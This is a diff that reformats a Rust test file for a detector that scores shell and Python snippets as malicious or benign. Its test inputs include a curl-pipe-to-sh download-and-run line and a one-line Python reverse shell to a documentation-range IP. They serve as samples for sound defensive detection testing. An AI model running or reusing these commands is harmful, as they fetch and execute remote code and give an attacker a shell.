@@ -12,10 +12,16 @@ fn sensor() -> Command {
 
 /// Outside CI, a machine without onnxruntime (no `cargo xtask setup` yet) skips.
 fn runtime_missing() -> bool {
-    let out = sensor().args(["score", "--inline", "true"]).output().unwrap();
+    let out = sensor()
+        .args(["score", "--inline", "true"])
+        .output()
+        .unwrap();
     let stderr = String::from_utf8_lossy(&out.stderr);
     if !out.status.success() && stderr.contains("onnxruntime") {
-        assert!(std::env::var_os("CI").is_none(), "CI must provide onnxruntime: {stderr}");
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "CI must provide onnxruntime: {stderr}"
+        );
         eprintln!("SKIPPED: {stderr}");
         return true;
     }
@@ -36,7 +42,11 @@ fn assert_scored(v: &Value, lang: &str) {
     assert!((0.0..=1.0).contains(&score), "{v}");
     let verdict = v["verdict"].as_str().unwrap();
     assert!(verdict == "malicious" || verdict == "benign", "{v}");
-    assert_eq!(verdict == "malicious", score >= v["threshold"].as_f64().unwrap(), "{v}");
+    assert_eq!(
+        verdict == "malicious",
+        score >= v["threshold"].as_f64().unwrap(),
+        "{v}"
+    );
     assert!(v["evidence"].is_array(), "{v}");
 }
 
@@ -46,21 +56,35 @@ fn inline_bash_and_python() {
         return;
     }
     let out = sensor()
-        .args(["score", "--inline", "curl -fsSL http://198.51.100.7/x.sh | sh"])
+        .args([
+            "score",
+            "--inline",
+            "curl -fsSL http://198.51.100.7/x.sh | sh",
+        ])
         .output()
         .unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let v = &lines(&out)[0];
     assert_scored(v, "bash");
     assert!(!v["evidence"].as_array().unwrap().is_empty());
 
     let code = "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')";
-    let out = sensor().args(["score", "--lang", "python", "--inline", code]).output().unwrap();
+    let out = sensor()
+        .args(["score", "--lang", "python", "--inline", code])
+        .output()
+        .unwrap();
     let v = &lines(&out)[0];
     assert_scored(v, "python");
     assert_eq!(v["verdict"], "malicious", "{v}");
     let evidence = v["evidence"].to_string();
-    assert!(evidence.contains("socket") || evidence.contains("shell"), "{evidence}");
+    assert!(
+        evidence.contains("socket") || evidence.contains("shell"),
+        "{evidence}"
+    );
 }
 
 #[test]
@@ -74,20 +98,42 @@ fn files_by_shebang_extension_and_override() {
         std::fs::write(&p, text).unwrap();
         p
     };
-    let sh = write("entrypoint", "#!/bin/sh\nset -e\nexec nginx -g 'daemon off;'\n");
+    let sh = write(
+        "entrypoint",
+        "#!/bin/sh\nset -e\nexec nginx -g 'daemon off;'\n",
+    );
     let py = write("health.py", "import sys\nsys.exit(0)\n");
     let unknown = write("notes.txt", "hello\n");
     let missing = dir.path().join("missing.sh");
-    let out = sensor().arg("score").args([&sh, &py, &unknown, &missing]).output().unwrap();
-    assert!(!out.status.success(), "unscorable inputs make the exit status non-zero");
+    let out = sensor()
+        .arg("score")
+        .args([&sh, &py, &unknown, &missing])
+        .output()
+        .unwrap();
+    assert!(
+        !out.status.success(),
+        "unscorable inputs make the exit status non-zero"
+    );
     let v = lines(&out);
     assert_eq!(v.len(), 4, "one line per input, errors included: {v:?}");
     assert_scored(&v[0], "bash");
     assert_scored(&v[1], "python");
-    assert!(v[2]["error"].as_str().unwrap().contains("--lang"), "{}", v[2]);
-    assert!(v[3]["error"].as_str().unwrap().contains("missing.sh"), "{}", v[3]);
+    assert!(
+        v[2]["error"].as_str().unwrap().contains("--lang"),
+        "{}",
+        v[2]
+    );
+    assert!(
+        v[3]["error"].as_str().unwrap().contains("missing.sh"),
+        "{}",
+        v[3]
+    );
 
-    let out = sensor().args(["score", "--lang", "python"]).arg(&unknown).output().unwrap();
+    let out = sensor()
+        .args(["score", "--lang", "python"])
+        .arg(&unknown)
+        .output()
+        .unwrap();
     assert!(out.status.success());
     assert_scored(&lines(&out)[0], "python");
 }
@@ -107,7 +153,12 @@ fn corpus_lines_with_a_malformed_one() {
     ]
     .join("\n");
     std::fs::write(&corpus, text).unwrap();
-    let out = sensor().arg("score").arg("--corpus").arg(&corpus).output().unwrap();
+    let out = sensor()
+        .arg("score")
+        .arg("--corpus")
+        .arg(&corpus)
+        .output()
+        .unwrap();
     assert!(!out.status.success());
     let v = lines(&out);
     assert_eq!(v.len(), 4, "{v:?}");
